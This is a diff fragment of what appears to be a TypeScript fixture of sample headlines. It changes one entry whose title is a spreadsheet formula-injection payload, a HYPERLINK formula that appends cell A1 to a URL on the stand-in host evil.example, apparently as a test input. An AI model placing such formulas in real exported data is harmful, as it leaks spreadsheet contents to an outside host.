@@ -650,7 +650,7 @@ export function scripts(ground: Ground): Script[] {
 			keywords: 'spreadsheet prices',
 			tone: 0,
 			en: {
-				title: '=HYPERLINK("http://evil.example/?"&A1,"Musk buys Ryanair")',
+				title: '=HYPERLINK("http://evil.example/?"&A1,"Flight prices")',
 				summary: 'A headline that a spreadsheet would run.'
 			},
 			only: 'sample-ledger',
